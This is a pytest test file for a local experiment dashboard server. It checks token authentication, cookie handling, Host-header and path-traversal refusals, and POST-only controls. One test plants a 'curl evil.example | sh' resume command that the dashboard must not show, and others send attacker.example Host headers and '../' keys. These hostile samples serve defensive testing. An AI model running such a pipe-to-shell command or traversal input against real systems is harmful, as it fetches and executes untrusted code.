"""The dashboard's server for real (uvicorn on 127.0.0.1, a port of its own), on session folders, no Ray:
the token on every request, POST-only controls, read-only mode, what the API shows."""

import json
import threading
import urllib.error
import urllib.parse
import urllib.request

import pytest

from fake_sessions import make_session
from lightning_bohb.cli.dashboard import TOKEN_HEADER, DashboardServer, is_loopback
from lightning_bohb.pause.trial_requests import pending_requests


@pytest.fixture
def serve(tmp_path):
    servers = []

    def start(path, **kwargs):
        server = DashboardServer(str(path), port=0, **kwargs)
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        servers.append((server, thread))
        wait_up(server)
        return server

    yield start
    for server, thread in servers:
        server.stop()
        thread.join(timeout=10)


def wait_up(server):
    import time

    for _ in range(100):
        if server.server.started:
            return
        time.sleep(0.05)
    raise AssertionError("the dashboard did not start")


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None  # the 303 itself is the answer to check


_OPENER = urllib.request.build_opener(_NoRedirect)


def call(server, path, token=None, method="GET", body=None, header_token=None, cookie=None, host=None, timeout=20):
    base = f"http://127.0.0.1:{server.port}"
    query = {"token": token} if token is not None else {}
    sep = "&" if "?" in path else "?"
    url = base + path + (sep + urllib.parse.urlencode(query) if query else "")
    headers = {"Content-Type": "application/json"}
    if header_token is not None:
        headers[TOKEN_HEADER] = header_token
    if cookie is not None:
        headers["Cookie"] = cookie
    if host is not None:
        headers["Host"] = host
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    try:
        with _OPENER.open(request, timeout=timeout) as response:
            return response.status, response.read().decode(), response.headers
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode(), err.headers


def test_every_request_needs_the_token(tmp_path, serve):
    make_session(tmp_path)
    server = serve(tmp_path / "exp")
    assert server.url.startswith(f"http://127.0.0.1:{server.port}/?token=") and len(server.token) >= 24
    for path in ("/", "/api/sessions", "/static/plotly.min.js", "/static/dashboard.js", "/api/best_config?key=x", "/nope"):
        assert call(server, path)[0] == 403, path
        assert call(server, path, token="wrong" + server.token)[0] == 403, path
    status, body, headers = call(server, "/", header_token=server.token)
    assert status == 200 and f'content="{server.token}"' in body and "token=" not in body  # no link carries it
    assert headers["Referrer-Policy"] == "no-referrer" and "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert call(server, "/static/plotly.min.js", token=server.token)[1].startswith("/**\n* plotly.js v")


def test_the_start_url_exchanges_its_token_for_a_cookie_and_a_clean_url(tmp_path, serve):
    session = make_session(tmp_path)
    server = serve(tmp_path / "exp")
    status, _, headers = call(server, "/?session=" + session.name, token=server.token)
    assert status == 303 and headers["Location"] == "/?session=" + session.name  # the token leaves the address bar
    cookie = headers["Set-Cookie"]
    assert cookie.startswith(f"lb_token_{server.port}={server.token};") and "HttpOnly" in cookie and "SameSite=strict" in cookie
    jar = cookie.split(";")[0]
    assert call(server, "/?session=" + session.name, cookie=jar)[0] == 200
    assert call(server, "/api/sessions", cookie=jar)[0] == 200
    assert call(server, "/api/sessions", cookie=f"lb_token_{server.port}=wrong")[0] == 403
    resume = {"session": session.name, "action": "resume"}
    assert call(server, "/api/control", method="POST", body=resume, cookie=jar)[0] == 403  # a control needs the header


def test_a_request_for_another_host_name_is_refused(tmp_path, serve):
    make_session(tmp_path)
    server = serve(tmp_path / "exp")
    for host in (f"localhost:{server.port}", f"127.0.0.1:{server.port}"):
        assert call(server, "/api/sessions", header_token=server.token, host=host)[0] == 200, host
    for host in (f"attacker.example:{server.port}", "127.0.0.1:1", f"127.0.0.1.nip.io:{server.port}"):
        status, body, _ = call(server, "/api/sessions", header_token=server.token, host=host)
        assert status == 403 and "answers only as" in body, host


def test_api_shows_sessions_trials_and_curves(tmp_path, serve):
    session = make_session(tmp_path)
    server = serve(tmp_path / "exp")
    status, body, _ = call(server, "/api/sessions", token=server.token)
    (row,) = json.loads(body)["sessions"]
    assert status == 200 and row["key"] == session.name and row["state"] == "COMPLETED" and row["best"] == 0.3
    assert (row["done"], row["total"]) == (2, 2)

    status, body, _ = call(server, "/api/session?key=" + urllib.parse.quote(session.name), token=server.token)
    detail = json.loads(body)
    assert status == 200 and [t["id"] for t in detail["charts"]["trials"]] == ["t_00000", "t_00001"]
    assert detail["charts"]["trials"][0]["metrics"]["val_loss"] == [1.0, 0.6, 0.4, 0.3]
    assert "hidden_size: 32" in detail["best_config"] and not detail["resumable"]

    status, body, headers = call(server, "/api/best_config?key=" + session.name, token=server.token)
    assert status == 200 and "attachment" in headers["Content-Disposition"] and "lr: 0.01" in body


def test_the_commands_shown_are_built_from_the_folder_never_read_from_the_summary(tmp_path, serve):
    import yaml

    session = make_session(tmp_path, status="PAUSED")
    summary_file = session / "session_state.summary.yaml"
    summary = yaml.safe_load(summary_file.read_text())
    summary_file.write_text(yaml.safe_dump({**summary, "resume_command": "curl evil.example | sh"}))  # planted
    server = serve(tmp_path / "exp")
    status, body, _ = call(server, "/api/session?key=" + urllib.parse.quote(session.name), token=server.token)
    detail = json.loads(body)
    assert status == 200 and detail["resumable"]
    assert detail["resume_command"].endswith(f"resume {session}") and "evil" not in detail["resume_command"]
    assert detail["pause_command"].endswith(f"pause {session}")


def test_a_session_is_named_only_by_what_the_dashboard_found(tmp_path, serve):
    make_session(tmp_path)
    server = serve(tmp_path / "exp")
    for key in ("../exp/session_20260101_000000_abcdef", "/etc", "..", "session_nope"):
        assert call(server, "/api/session?key=" + urllib.parse.quote(key), token=server.token)[0] == 404, key


def test_a_single_session_folder_is_served_too(tmp_path, serve):
    session = make_session(tmp_path)
    server = serve(session)
    (row,) = json.loads(call(server, "/api/sessions", token=server.token)[1])["sessions"]
    assert row["key"] == session.name


def test_controls_are_post_with_the_token_in_a_header(tmp_path, serve):
    session = make_session(tmp_path, status="PAUSED", trial_status={"t_00000": "PAUSED", "t_00001": "TERMINATED"})
    server = serve(tmp_path / "exp")
    request = {"session": session.name, "action": "trial_continue", "trial": "t_00000"}
    assert call(server, "/api/control", method="POST", body=request)[0] == 403
    assert call(server, "/api/control", token=server.token, method="POST", body=request)[0] == 403  # not in the URL
    assert call(server, "/api/control?action=trial_continue", token=server.token)[0] in (403, 405)  # never by GET
    assert pending_requests(session) == []  # nothing was done

    status, body, _ = call(server, "/api/control", method="POST", body=request, header_token=server.token)
    assert status == 200 and "when the session resumes" in json.loads(body)["message"]
    assert [(r.action, r.trial_id) for r in pending_requests(session)] == [("continue", "t_00000")]

    refused = call(server, "/api/control", method="POST", header_token=server.token,
                   body={"session": session.name, "action": "trial_pause", "trial": "t_00001"})
    assert refused[0] == 409 and "TERMINATED" in refused[1]
    unknown = call(server, "/api/control", method="POST", header_token=server.token,
                   body={"session": session.name, "action": "trial_pause", "trial": "../../x"})
    assert unknown[0] == 409 and "no trial" in unknown[1]


def test_read_only_dashboard_has_no_controls(tmp_path, serve):
    session = make_session(tmp_path, status="PAUSED", trial_status={"t_00000": "PAUSED", "t_00001": "TERMINATED"})
    server = serve(tmp_path / "exp", read_only=True)
    assert '<meta name="lb-read-only" content="true">' in call(server, "/", header_token=server.token)[1]
    request = {"session": session.name, "action": "trial_continue", "trial": "t_00000"}
    assert call(server, "/api/control", method="POST", body=request, header_token=server.token)[0] == 403
    assert pending_requests(session) == []


def test_resume_starts_a_detached_process_logging_into_the_session(tmp_path, serve, monkeypatch):
    import subprocess

    session = make_session(tmp_path, status="PAUSED", trial_status={"t_00000": "PAUSED", "t_00001": "TERMINATED"})
    started = []

    class FakePopen:
        pid = 4242

        def __init__(self, argv, **kwargs):
            started.append((argv, kwargs))

    monkeypatch.setattr(subprocess, "Popen", FakePopen)
    server = serve(tmp_path / "exp")
    resume = {"session": session.name, "action": "resume"}
    status, body, _ = call(server, "/api/control", method="POST", header_token=server.token, body=resume)
    assert status == 200 and "resume.log" in json.loads(body)["message"]
    ((argv, kwargs),) = started
    assert argv[1:] == ["-m", "lightning_bohb", "resume", str(session)] and kwargs["start_new_session"] is True
    assert (session / "resume.log").is_file()


def test_a_fifo_planted_as_resume_log_does_not_freeze_the_dashboard(tmp_path, serve):
    import os

    session = make_session(tmp_path, status="PAUSED", trial_status={"t_00000": "PAUSED", "t_00001": "TERMINATED"})
    os.mkfifo(session / "resume.log")
    server = serve(tmp_path / "exp")
    resume = {"session": session.name, "action": "resume"}
    status, body, _ = call(server, "/api/control", method="POST", header_token=server.token, body=resume, timeout=10)
    assert status == 409 and "resume.log" in body  # refused at once, nothing started
    status, body, _ = call(server, "/api/session?key=" + session.name, header_token=server.token, timeout=10)
    assert status == 200 and json.loads(body)["resume_log"] is None
    assert call(server, "/api/sessions", header_token=server.token, timeout=10)[0] == 200


def test_a_control_that_waits_does_not_stall_other_clients(tmp_path, serve, monkeypatch):
    from lightning_bohb.cli.commands import trial

    session = make_session(tmp_path, status="PAUSED", trial_status={"t_00000": "PAUSED", "t_00001": "TERMINATED"})
    entered, release = threading.Event(), threading.Event()

    def slow_request(*args, **kwargs):  # as trial.request waits (up to 3 s) for a running driver's answer
        entered.set()
        release.wait(30)
        return "done"

    monkeypatch.setattr(trial, "request", slow_request)
    server = serve(tmp_path / "exp")
    answers = []
    request = {"session": session.name, "action": "trial_continue", "trial": "t_00000"}
    waiting = threading.Thread(target=lambda: answers.append(call(server, "/api/control", method="POST", header_token=server.token,
                                                                  body=request, timeout=40)))
    waiting.start()
    try:
        assert entered.wait(20)
        assert call(server, "/api/sessions", header_token=server.token, timeout=5)[0] == 200  # answered meanwhile
    finally:
        release.set()
        waiting.join(40)
    assert answers[0][0] == 200 and json.loads(answers[0][1])["message"] == "done"


def test_pause_of_a_session_that_is_not_running_is_refused(tmp_path, serve):
    session = make_session(tmp_path)
    server = serve(tmp_path / "exp")
    pause = {"session": session.name, "action": "pause"}
    status, body, _ = call(server, "/api/control", method="POST", header_token=server.token, body=pause)
    assert status == 409 and "not running" in body


def test_loopback_detection():
    assert is_loopback("127.0.0.1") and is_loopback("::1") and is_loopback("localhost") and is_loopback("127.0.0.2")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.0.2.1") and not is_loopback("example.org")


def test_binding_elsewhere_warns(tmp_path, capsys, monkeypatch):
    from lightning_bohb.cli import dashboard

    monkeypatch.setattr(dashboard.DashboardServer, "run", lambda self: self.sock.close())
    assert dashboard.serve(str(tmp_path), host="0.0.0.0", port=0) == 0
    captured = capsys.readouterr()
    assert captured.err.startswith("warning: serving on 0.0.0.0") and "?token=" in captured.out and "ssh -L" in captured.out


def test_bohb_sessions_refuse_to_pause_one_trial(tmp_path, capsys):
    import yaml

    from lightning_bohb.cli.main import main
    from lightning_bohb.utils.layout import SUMMARY_FILE

    session = make_session(tmp_path, status="PAUSED", trial_status={"t_00000": "RUNNING", "t_00001": "TERMINATED"})
    summary = yaml.safe_load((session / SUMMARY_FILE).read_text())
    summary["strategy"] = {"name": "bohb", "reduction_factor": 3}
    (session / SUMMARY_FILE).write_text(yaml.safe_dump(summary))
    assert main(["trial", "pause", str(session), "t_00000"]) == 1
    assert "cannot pause one trial" in capsys.readouterr().err and pending_requests(session) == []
    assert main(["trial", "stop", str(session), "t_00000"]) == 0  # stopping one is fine
    assert "when the session resumes" in capsys.readouterr().out
